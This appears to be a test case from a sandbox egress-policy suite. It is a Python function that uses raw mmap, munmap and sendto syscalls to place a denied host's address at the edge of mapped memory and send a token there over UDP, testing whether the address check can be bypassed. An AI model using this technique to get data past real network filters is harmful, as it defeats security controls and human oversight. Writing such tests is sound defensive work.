"""An address that ends where memory does
Puts the address at the end of a page behind which there is none, and claims a longer one.
policy: denied-address
audit: explicitlyDeniedIP
proof: arrival
"""
import ctypes


def attack(at):
    pages = at.syscall(9, 0, 8192, 3, 0x22, -1, 0)
    at.syscall(11, pages + 4096, 4096)
    ctypes.memmove(pages + 4080, at.address4(at.FOE, at.PORT), 16)
    sender = at.udp()
    return at.syscall(44, sender.fileno(), at.token, len(at.token), 0, ctypes.c_long(pages + 4080), 16) > 0
